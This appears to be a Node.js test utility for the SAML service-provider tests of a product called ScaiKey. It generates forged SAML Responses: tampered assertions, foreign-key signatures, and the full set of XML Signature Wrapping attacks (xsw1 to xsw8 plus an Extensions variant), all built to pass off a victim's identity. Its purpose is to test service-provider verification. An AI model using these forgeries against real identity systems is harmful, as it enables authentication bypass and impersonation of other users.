// The attacker's toolkit: SAML Responses, honest and malicious, for ScaiKey's
// SAML service-provider tests.
//
//   node forge.mjs '{"idp_key_pem": "...", "idp_cert_pem": "...",   (the real IdP's: idp.mjs prints both)
//                    "issuer": "<IdP entity id>", "destination": "<ACS URL>", "audience": "<SP entity id>",
//                    "in_response_to": "<AuthnRequest ID>" | null,       (null/absent: unsolicited)
//                    "name_id": "...", "name_id_format": "<optional; emailAddress>",
//                    "attributes": {"email": "...", ...},
//                    "not_before": "<ISO>", "not_on_or_after": "<ISO>",  (default now-60s / now+300s)
//                    "assertion_id": "<optional fixed Assertion ID (replays)>",
//                    "response_id": "<optional>", "issue_instant": "<optional ISO>",
//                    "recipient": "<optional SubjectConfirmationData Recipient; default destination>",
//                    "subject_not_on_or_after": "<optional ISO; default not_on_or_after>",
//                    "sign": "response" | "assertion" | "both" | "none",  (default "both")
//                    "variant": "valid" | "tampered" | "foreign_key_with_cert" | "xsw_response_wrap"
//                             | "xsw_assertion_wrap" | "xsw_extensions" | "xsw1" ... "xsw8",
//                    "victim_name_id": "<who the attacker wants to become>",
//                    "victim_attributes": {optional: the evil assertion's attributes}}'
//
// Prints ONE JSON object and exits 0:
//   {"SAMLResponse": "<base64 of xml>", "xml": "<the Response>", "variant", "sign",
//    "response_id": "<root Response ID>", "signed_assertion_id": "<ID the real signature covers, if any>",
//    "evil_assertion_id": "<ID of the unsigned evil Assertion, XSW only>"}
// Bad input: a message on stderr, exit 2.
//
// Every variant starts from the honest Response (lib.mjs: the same shape and
// signatures idp.mjs issues) for name_id, signed by the real IdP key.
//
// The "evil" Assertion (XSW) is a deep copy of the honest one with a new ID,
// no ds:Signature, NameID = victim_name_id, and every attribute value equal to
// name_id replaced by victim_name_id (or, with victim_attributes, exactly those
// attributes). "Where a naive SP reads it" = the first Assertion in document
// order and/or the Assertion that is a direct child of the root Response.
//
// Variants:
//   valid                 the honest Response, signed per `sign`. Make expired / not yet
//                         valid / wrong-audience / wrong-recipient / unsolicited / replayed
//                         Responses by changing the inputs.
//   tampered              honest and signed per `sign`, then NameID (and attribute values
//                         equal to name_id) changed to victim_name_id after signing: every
//                         digest over the Assertion breaks.
//   foreign_key_with_cert signed per `sign` with a freshly generated RSA-2048 key whose
//                         self-signed certificate (same subject DN as the IdP's) is in
//                         ds:KeyInfo/ds:X509Data/ds:X509Certificate: verifies only for an SP
//                         that trusts KeyInfo instead of its configured IdP certificates.
//
//   XML Signature Wrapping, numbered as in Somorovsky et al., "On Breaking SAML: Be
//   Whoever You Want to Be" (USENIX Security 2012), in the form SAML Raider
//   implements them. R = Response, A = Assertion, S = ds:Signature, * = the element
//   the real signature covers (still validly signed where it now sits):
//
//   xsw1 = xsw_response_wrap   needs sign response|both. The evil Response (new ID) holds
//       the evil A; the honest R*, minus its own S, is appended INSIDE the evil R's S
//       (after SignedInfo, SignatureValue, KeyInfo): S's Reference #R* still resolves.
//         R(evil) > Issuer, S[SignedInfo(#R*), SignatureValue, KeyInfo, R*[Issuer, Status, A(honest, +its S if both)]],
//                   Status, A(evil)
//       Note: the enveloped-signature transform removes S and everything in it from
//       the digested node-set, so a conforming verifier (libxmlsec1) computes the digest
//       over nothing and fails; verifiers whose transform only strips the S child
//       (xml-crypto) accept it.
//   xsw2                       as xsw1 but the honest R* sits before S, a sibling (a
//       "detached" signature): R(evil) > Issuer, R*[...], S(#R*), Status, A(evil).
//       Cryptographically valid for libxmlsec1 too.
//   xsw3 = xsw_assertion_wrap  needs sign assertion|both (with both the Response's S is
//       dropped: it cannot survive any change). The evil A (new ID, no S) is inserted
//       before the honest A*, both direct children of R:
//         R > Issuer, Status, A(evil), A*[Issuer, S(#A*), ...]
//   xsw4  the evil A is the direct child; the honest A* is moved inside it (last child):
//         R > Issuer, Status, A(evil)[Issuer, Subject, ..., A*[S(#A*), ...]]
//   xsw5  the evil A keeps the honest S (Reference #A*) but has a new ID; a copy of the
//       honest A* without S is appended at the end of R:
//         R > Issuer, Status, A(evil)[Issuer, S(#A*), ...], A*[no S]
//   xsw6  as xsw5 but the honest A* (without S) is inside the evil A's S:
//         R > Issuer, Status, A(evil)[Issuer, S(#A*)[SignedInfo, SignatureValue, KeyInfo, A*], ...]
//       (enveloped transform: libxmlsec1 digests nothing and fails, like xsw1)
//   xsw7  samlp:Extensions (in its schema place, before Status) holds the evil A; the honest
//       A* stays where it was:   R > Issuer, Extensions[A(evil)], Status, A*
//   xsw8  the evil A keeps the honest S with a new ID; the honest A* (without S) is in a
//       ds:Object inside that S:  R > Issuer, Status, A(evil)[Issuer, S(#A*)[..., Object[A*]], ...]
//       (enveloped transform: libxmlsec1 fails, like xsw1)
//   xsw_extensions  the XSW7 carrier with the XSW8 inversion: the honest signed A* (with
//       its enveloped S, untouched) moves into samlp:Extensions and the evil A takes its
//       place as the direct child Assertion:
//         R > Issuer, Extensions[A*[Issuer, S(#A*), ...]], Status, A(evil)
//       Cryptographically valid for libxmlsec1; an SP that finds "an Assertion with a
//       valid signature" somewhere and then reads /Response/Assertion is fooled.
//
// The XSW outputs whose S still verifies under libxmlsec1 (xsw2, xsw3, xsw4, xsw5,
// xsw7, xsw_extensions) test the SP's binding of "what was verified" to "what is
// read"; the others additionally test that its verifier implements the transforms.

import {
  NS,
  SIGN_MODES,
  buildResponseXml,
  certSubject,
  generateKeyAndCert,
  newId,
  parseXml,
  samlTime,
  serializeXml,
  signResponse,
} from './lib.mjs';

function fail(message) {
  process.stderr.write(`forge: ${message}\n`);
  process.exit(2);
}

// ---------------------------------------------------------------- DOM helpers

const isEl = (n, ns, local) => n && n.nodeType === 1 && n.namespaceURI === ns && n.localName === local;

function children(el, ns, local) {
  const out = [];
  for (let n = el.firstChild; n; n = n.nextSibling) if (isEl(n, ns, local)) out.push(n);
  return out;
}
const child = (el, ns, local) => children(el, ns, local)[0] ?? null;

function descendants(el, ns, local) {
  return Array.from(el.getElementsByTagNameNS(ns, local));
}

function setText(el, text) {
  while (el.firstChild) el.removeChild(el.firstChild);
  el.appendChild(el.ownerDocument.createTextNode(text));
}

/** The Response's own (direct-child) ds:Signature. */
const ownSignature = (el) => child(el, NS.ds, 'Signature');

function removeOwnSignature(el) {
  const s = ownSignature(el);
  if (s) el.removeChild(s);
  return s;
}

/** Insert `node` as a child of `parent` right before the first child that is `beforeLocal` (else append). */
function insertAt(parent, node, beforeNs, beforeLocal) {
  const ref = child(parent, beforeNs, beforeLocal);
  if (ref) parent.insertBefore(node, ref);
  else parent.appendChild(node);
}

/**
 * Turn an Assertion (in place) into the attacker's: NameID and every attribute
 * value equal to the honest name_id become victim_name_id; victim_attributes,
 * if given, replace all attribute values of the named attributes.
 */
function makeEvil(assertion, { nameId, victimNameId, victimAttributes }) {
  for (const n of descendants(assertion, NS.saml, 'NameID')) setText(n, victimNameId);
  for (const v of descendants(assertion, NS.saml, 'AttributeValue')) {
    if ((v.textContent ?? '') === nameId) setText(v, victimNameId);
  }
  if (victimAttributes) {
    for (const attr of descendants(assertion, NS.saml, 'Attribute')) {
      const name = attr.getAttribute('Name');
      if (!Object.hasOwn(victimAttributes, name)) continue;
      const values = children(attr, NS.saml, 'AttributeValue');
      const wanted = [].concat(victimAttributes[name]);
      const proto = values[0];
      for (const v of values) attr.removeChild(v);
      for (const w of wanted) {
        const nv = proto.cloneNode(true);
        setText(nv, String(w));
        attr.appendChild(nv);
      }
    }
  }
  return assertion;
}

/** A deep copy of the honest Assertion turned evil: new ID, no Signature. */
function evilCopy(assertion, opts) {
  const evil = assertion.cloneNode(true);
  removeOwnSignature(evil);
  evil.setAttribute('ID', newId());
  return makeEvil(evil, opts);
}

// ---------------------------------------------------------------- variants

const ALIASES = { xsw_response_wrap: 'xsw1', xsw_assertion_wrap: 'xsw3' };
const VARIANTS = new Set([
  'valid', 'tampered', 'foreign_key_with_cert',
  'xsw_response_wrap', 'xsw_assertion_wrap', 'xsw_extensions',
  'xsw1', 'xsw2', 'xsw3', 'xsw4', 'xsw5', 'xsw6', 'xsw7', 'xsw8',
]);
const NEEDS_RESPONSE_SIG = new Set(['xsw1', 'xsw2']);
const NEEDS_ASSERTION_SIG = new Set(['xsw3', 'xsw4', 'xsw5', 'xsw6', 'xsw7', 'xsw8', 'xsw_extensions']);

function forge(input) {
  const variantIn = input.variant ?? 'valid';
  if (!VARIANTS.has(variantIn)) fail(`unknown variant ${variantIn}; one of ${[...VARIANTS].join(', ')}`);
  const variant = ALIASES[variantIn] ?? variantIn;
  const sign = input.sign ?? 'both';
  if (!SIGN_MODES.has(sign)) fail(`sign must be one of ${[...SIGN_MODES].join(', ')}`);
  for (const k of ['idp_key_pem', 'idp_cert_pem', 'issuer', 'destination', 'audience', 'name_id']) {
    if (!input[k]) fail(`${k} is required`);
  }
  const isXsw = variant.startsWith('xsw');
  if ((variant === 'tampered' || isXsw) && !input.victim_name_id) fail(`${variantIn} needs victim_name_id`);
  if (NEEDS_RESPONSE_SIG.has(variant) && !['response', 'both'].includes(sign)) {
    fail(`${variantIn} wraps a signed Response: sign must be response or both`);
  }
  if (NEEDS_ASSERTION_SIG.has(variant) && !['assertion', 'both'].includes(sign)) {
    fail(`${variantIn} wraps a signed Assertion: sign must be assertion or both`);
  }

  const now = Date.now();
  const params = {
    responseId: input.response_id ?? newId(),
    assertionId: input.assertion_id ?? newId(),
    issuer: input.issuer,
    destination: input.destination,
    audience: input.audience,
    inResponseTo: input.in_response_to ?? null,
    nameId: input.name_id,
    nameIdFormat: input.name_id_format,
    attributes: input.attributes ?? {},
    issueInstant: samlTime(input.issue_instant ?? now),
    notBefore: samlTime(input.not_before ?? now - 60e3),
    notOnOrAfter: samlTime(input.not_on_or_after ?? now + 300e3),
    recipient: input.recipient,
    subjectNotOnOrAfter: input.subject_not_on_or_after ? samlTime(input.subject_not_on_or_after) : undefined,
  };
  const unsigned = buildResponseXml(params);

  let keyPem = input.idp_key_pem;
  let certPem = input.idp_cert_pem;
  if (variant === 'foreign_key_with_cert') {
    let subject;
    try {
      subject = certSubject(input.idp_cert_pem);
    } catch {
      subject = undefined;
    }
    ({ keyPem, certPem } = generateKeyAndCert({ subject }));
  }
  const signed = signResponse(unsigned, { keyPem, certPem, sign });
  const evilOpts = {
    nameId: input.name_id,
    victimNameId: input.victim_name_id,
    victimAttributes: input.victim_attributes,
  };

  const doc = parseXml(signed);
  const response = doc.documentElement;
  const assertion = child(response, NS.saml, 'Assertion');
  let signedAssertionId = ['assertion', 'both'].includes(sign) && variant !== 'foreign_key_with_cert' ? params.assertionId : null;
  let evilAssertionId = null;

  switch (variant) {
    case 'valid':
    case 'foreign_key_with_cert':
      break;

    case 'tampered':
      makeEvil(assertion, evilOpts);
      signedAssertionId = null;
      break;

    case 'xsw1':
    case 'xsw2': {
      // The honest signed Response, without its own Signature.
      const honest = response.cloneNode(true);
      removeOwnSignature(honest);
      // The document's root becomes the evil Response.
      const sig = ownSignature(response);
      response.setAttribute('ID', newId());
      const evil = evilCopy(assertion, evilOpts);
      response.replaceChild(evil, assertion);
      evilAssertionId = evil.getAttribute('ID');
      if (variant === 'xsw1') sig.appendChild(honest);
      else response.insertBefore(honest, sig);
      break;
    }

    default: {
      // Assertion-level wrapping: the Response signature (if any) cannot survive.
      removeOwnSignature(response);
      if (variant === 'xsw3') {
        const evil = evilCopy(assertion, evilOpts);
        response.insertBefore(evil, assertion);
        evilAssertionId = evil.getAttribute('ID');
      } else if (variant === 'xsw4') {
        const evil = evilCopy(assertion, evilOpts);
        response.replaceChild(evil, assertion);
        evil.appendChild(assertion);
        evilAssertionId = evil.getAttribute('ID');
      } else if (variant === 'xsw5' || variant === 'xsw6' || variant === 'xsw8') {
        const honestCopy = assertion.cloneNode(true);
        removeOwnSignature(honestCopy);
        // The in-document Assertion (with the honest Signature) becomes the evil one.
        const evil = makeEvil(assertion, evilOpts);
        evil.setAttribute('ID', newId());
        evilAssertionId = evil.getAttribute('ID');
        const sig = ownSignature(evil);
        if (variant === 'xsw5') response.appendChild(honestCopy);
        else if (variant === 'xsw6') sig.appendChild(honestCopy);
        else {
          const object = doc.createElementNS(NS.ds, 'ds:Object');
          object.appendChild(honestCopy);
          sig.appendChild(object);
        }
      } else if (variant === 'xsw7' || variant === 'xsw_extensions') {
        const ext = doc.createElementNS(NS.samlp, 'samlp:Extensions');
        insertAt(response, ext, NS.samlp, 'Status');
        const evil = evilCopy(assertion, evilOpts);
        evilAssertionId = evil.getAttribute('ID');
        if (variant === 'xsw7') {
          ext.appendChild(evil);
        } else {
          response.replaceChild(evil, assertion);
          ext.appendChild(assertion);
        }
      } else {
        fail(`unhandled variant ${variant}`);
      }
    }
  }

  const xml = serializeXml(doc);
  return {
    SAMLResponse: Buffer.from(xml, 'utf8').toString('base64'),
    xml,
    variant: variantIn,
    sign,
    response_id: response.getAttribute('ID'),
    signed_assertion_id: signedAssertionId,
    evil_assertion_id: evilAssertionId,
  };
}

let input;
try {
  input = JSON.parse(process.argv[2] ?? '');
} catch (e) {
  fail(`usage: node forge.mjs '<json>' (${e.message})`);
}
try {
  process.stdout.write(`${JSON.stringify(forge(input))}\n`);
} catch (e) {
  fail(e.stack ?? String(e));
}
